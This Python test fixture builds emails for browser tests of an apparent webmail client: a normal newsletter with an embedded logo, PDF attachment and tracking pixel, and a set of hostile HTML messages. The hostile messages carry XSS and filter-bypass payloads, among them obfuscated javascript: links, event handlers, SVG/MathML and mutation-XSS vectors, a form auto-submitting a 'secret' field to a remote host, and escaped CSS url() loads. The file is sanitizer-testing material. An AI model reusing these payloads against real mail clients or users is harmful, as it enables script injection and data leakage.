"""Messages for the browser tests: a real newsletter, and mail written to attack the reader."""

from __future__ import annotations

import struct
import zlib
from dataclasses import dataclass
from datetime import UTC, datetime
from email.message import EmailMessage
from email.policy import SMTP
from email.utils import format_datetime, make_msgid

from tests.conftest import CAROL

NEWSLETTER_SUBJECT = "Quarterly results, November 2026"
NEWSLETTER_TEXT = "Revenue grew 12 % in the third quarter."
ATTACHMENT_NAME = "Übersicht 2026.pdf"
LOGO_SIZE = (48, 24)


def png(width: int, height: int) -> bytes:
    """A real PNG: blue and orange stripes, 8-bit RGB."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data))
            + kind
            + data
            + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)
        )

    rows = b"".join(
        b"\x00" + (b"\x0b\x5c\xad" if y < height // 2 else b"\xf0\x8c\x1e") * width
        for y in range(height)
    )
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header)
        + chunk(b"IDAT", zlib.compress(rows))
        + chunk(b"IEND", b"")
    )


def pdf() -> bytes:
    """Enough of a PDF to look like one; the bytes matter, not the rendering."""
    return (
        b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj << /Type /Catalog >> endobj\n"
        + bytes(range(256))
        + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    )


def _headers(msg: EmailMessage, subject: str, to: str) -> None:
    msg["From"] = f"Carol Sender <{CAROL}>"
    msg["To"] = to
    msg["Subject"] = subject
    msg["Date"] = format_datetime(datetime(2026, 11, 20, 9, 30, tzinfo=UTC))
    msg["Message-ID"] = make_msgid(domain="corp.example")


def newsletter(to: str, remote_image: str) -> bytes:
    """multipart/mixed: (text | related(HTML, cid: logo)) and a PDF with a Unicode name."""
    html = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8">
<style>
  .card {{ background-color: #eef4fb; border: 1px solid #9bb8d8; }}
  td.figure {{ font-weight: bold; color: #0b5cad; padding: 6px 12px; }}
  h1 {{ font-family: Georgia, serif; color: #12355b; }}
</style></head>
<body>
<h1>Corp newsletter</h1>
<p><img src="cid:logo@corp.example" alt="Logo" width="{LOGO_SIZE[0]}" height="{LOGO_SIZE[1]}"></p>
<p>{NEWSLETTER_TEXT}</p>
<table class="card" summary="Results">
  <tr><th>Quarter</th><th>Revenue</th></tr>
  <tr><td>Q3 2026</td><td class="figure">€ 4.2 m</td></tr>
</table>
<p><a href="https://corp.example/newsletter/2026-11">Read online</a></p>
<p><img src="{remote_image}" alt="Tracker" width="1" height="1"></p>
</body></html>
"""
    msg = EmailMessage(policy=SMTP)
    _headers(msg, NEWSLETTER_SUBJECT, to)
    msg.set_content(f"Corp newsletter\n\n{NEWSLETTER_TEXT}\n")
    msg.add_alternative(html, subtype="html")
    html_part = msg.get_body(("html",))
    assert html_part is not None
    html_part.add_related(
        png(*LOGO_SIZE), maintype="image", subtype="png", cid="<logo@corp.example>"
    )
    msg.add_attachment(pdf(), maintype="application", subtype="pdf", filename=ATTACHMENT_NAME)
    return msg.as_bytes()


def html_message(to: str, subject: str, html: str, text: str | None = None) -> bytes:
    msg = EmailMessage(policy=SMTP)
    _headers(msg, subject, to)
    if text is None:
        msg.set_content(html, subtype="html")
    else:
        msg.set_content(text)
        msg.add_alternative(html, subtype="html")
    return msg.as_bytes()


@dataclass
class Hostile:
    name: str
    html: str
    subject: str = ""
    click: tuple[str, ...] = ()  # texts of links in the frame to click

    def __post_init__(self) -> None:
        self.subject = self.subject or f"Hostile: {self.name}"


# The payloads set window.pwned (on the frame, its parent and the top page),
# change the title and open dialogs when anything of theirs runs; and they ask
# the "remote" server (REMOTE, filled in per test) for something in every way
# HTML and CSS allow.
PWN = "alert(1);top.pwned=1;parent.pwned=1;window.pwned=1;top.document.title='pwned'"


def hostile_messages(remote: str) -> list[Hostile]:
    r = remote.rstrip("/")
    return [
        Hostile(
            "scripts and handlers",
            f"""<html><head><script>{PWN}</script></head>
<body onload="{PWN}" onpageshow="{PWN}">
<p>Scripts and handlers.</p>
<script type="module">{PWN}</script>
<img src="x" onerror="{PWN}" alt="broken">
<img src="{r}/handler.png" onload="{PWN}">
<div onmouseover="{PWN}" style="height:40px">hover</div>
<details open ontoggle="{PWN}"><summary>toggle</summary>x</details>
<video><source onerror="{PWN}"></video>
<input autofocus onfocus="{PWN}">
</body></html>""",
        ),
        Hostile(
            "javascript links",
            f"""<p>Links that run script.</p>
<p><a href="javascript:{PWN}">plain js link</a></p>
<p><a href="JaVaScRiPt:{PWN}">mixed case js link</a></p>
<p><a href="&#106;&#97;vascript:{PWN}">entity js link</a></p>
<p><a href=" &#x09;javascript:{PWN}">spaced js link</a></p>
<p><a href="data:text/html,&lt;script&gt;{PWN}&lt;/script&gt;">data link</a></p>
<p><a href="jav&#x09;ascript:{PWN}">tab link</a></p>
<p><a href="vbscript:msgbox(1)">vbscript link</a></p>""",
            click=(
                "plain js link",
                "mixed case js link",
                "entity js link",
                "spaced js link",
                "data link",
                "tab link",
            ),
        ),
        Hostile(
            "svg and math",
            f"""<p>SVG and MathML.</p>
<svg onload="{PWN}" width="20" height="20"><circle r="10" cx="10" cy="10"/>
<script>{PWN}</script><animate onbegin="{PWN}" attributeName="x" dur="1s"/>
<image href="{r}/svg-image.png"/><a href="javascript:{PWN}"><text y="15">svg link</text></a></svg>
<math><mtext><a href="javascript:{PWN}">math link</a></mtext></math>
<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=">""",
        ),
        Hostile(
            "frames objects and embeds",
            f"""<p>Frames, objects and embeds.</p>
<iframe src="javascript:{PWN}"></iframe>
<iframe srcdoc="<script>{PWN}</script>"></iframe>
<iframe src="{r}/iframe.html"></iframe>
<frameset><frame src="{r}/frame.html"></frameset>
<object data="{r}/object.swf" type="application/x-shockwave-flash"></object>
<object data="javascript:{PWN}"></object>
<embed src="{r}/embed.svg" type="image/svg+xml">
<applet code="Pwn.class" codebase="{r}/applet/"></applet>
<portal src="{r}/portal.html"></portal>""",
        ),
        Hostile(
            "refresh base and forms",
            f"""<html><head>
<meta http-equiv="refresh" content="0;url={r}/refresh">
<base href="{r}/base/">
<link rel="stylesheet" href="{r}/link.css">
<link rel="prefetch" href="{r}/prefetch">
<link rel="preload" as="image" href="{r}/preload.png">
<link rel="icon" href="{r}/favicon.ico">
</head><body>
<meta http-equiv="refresh" content="0;url={r}/refresh-in-body">
<p>Refresh, base and forms.</p>
<img src="relative.png" alt="relative">
<a href="relative-link">relative link</a>
<form id="f" action="{r}/form" method="post"><input name="secret" value="1">
<input type="image" src="{r}/input-image.png"><button formaction="{r}/formaction">Send</button></form>
<script>document.forms[0].submit()</script>
<img src="x" onerror="document.getElementById('f').submit()">
</body></html>""",
            click=("relative link",),
        ),
        Hostile(
            "css remote content",
            f"""<html><head><style>
@import url({r}/import.css);
@import "{r}/import2.css";
@font-face {{ font-family: Pwn; src: url({r}/font.woff); }}
body {{ background: url({r}/style-bg.png); font-family: Pwn; }}
p.bg {{ background-image: url('{r}/class-bg.png'); }}
</style></head><body>
<p class="bg">CSS that loads things.</p>
<div style="background-image: url({r}/inline-bg.png)">inline</div>
<div style="background: &#117;rl({r}/entity-inline.png)">entity inline</div>
<div style="list-style-image: url({r}/list.png)">list</div>
<div style="behavior: url({r}/behavior.htc); -moz-binding: url({r}/binding.xml)">legacy</div>
<div style="width: expression(alert(1))">expression</div>
<table background="{r}/table-bg.png"><tr><td background="{r}/td-bg.png">cells</td></tr></table>
<body background="{r}/body-bg.png">
<img srcset="{r}/srcset.png 1x, {r}/srcset2.png 2x" alt="srcset">
<picture><source srcset="{r}/picture.png"><img alt="picture"></picture>
<video poster="{r}/poster.png" src="{r}/video.mp4"></video>
<audio src="{r}/audio.mp3" autoplay></audio>
<img src="//{r.split("://", 1)[1]}/protocol-relative.png" alt="protocol relative">
<img src="{r}/remote.png" alt="remote">
<a href="{r}/ping-target" ping="{r}/ping">a link with ping</a>
</body></html>""",
        ),
        Hostile(
            "mutation xss",
            f"""<p>Mutation XSS.</p>
<svg></p><style><a id="</style><img src=1 onerror={PWN.replace(";", "&#59;")}>">
<math><mtext><table><mglyph><style><img src=x onerror="{PWN}">
<noscript><p title="</noscript><img src=x onerror={PWN.replace(";", "&#59;")}>"></noscript>
<form><math><mtext></form><form><mglyph><style></math><img src onerror="{PWN}">
<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror="{PWN}" src=1>">
<listing>&lt;img src=x onerror=alert(1)&gt;</listing>
<xmp><img src=x onerror="{PWN}"></xmp>
<noembed><img src=x onerror="{PWN}"></noembed>
<template><img src=x onerror="{PWN}"></template>
<!--<img src="--><img src=x onerror="{PWN}">-->
""",
        ),
        Hostile(
            "hostile subject",
            "<p>The subject is the attack.</p>",
            subject='<script>alert(1)</script><img src=x onerror="top.pwned=1">',
        ),
        Hostile(
            # Remote images in CSS that a search for "url(" misses.
            "css escapes and image-set",
            f"""<html><head><style>
p.one {{ background-image: \\75 rl({r}/style-escaped.png); }}
</style></head><body>
<p class="one">Escaped url() in a style block.</p>
<div style="background: u\\72 l({r}/escaped-inline.png)">u\\72 l(</div>
<div style="background: ur\\l({r}/escaped-letter.png)">ur\\l(</div>
<div style="background: \\000075rl({r}/escaped-long.png)">\\000075rl(</div>
<div style="background: image-set('{r}/image-set.png' 1x)">image-set(</div>
<div style="background: -webkit-image-set('{r}/webkit-image-set.png' 1x)">-webkit-image-set(</div>
</body></html>""",
        ),
    ]
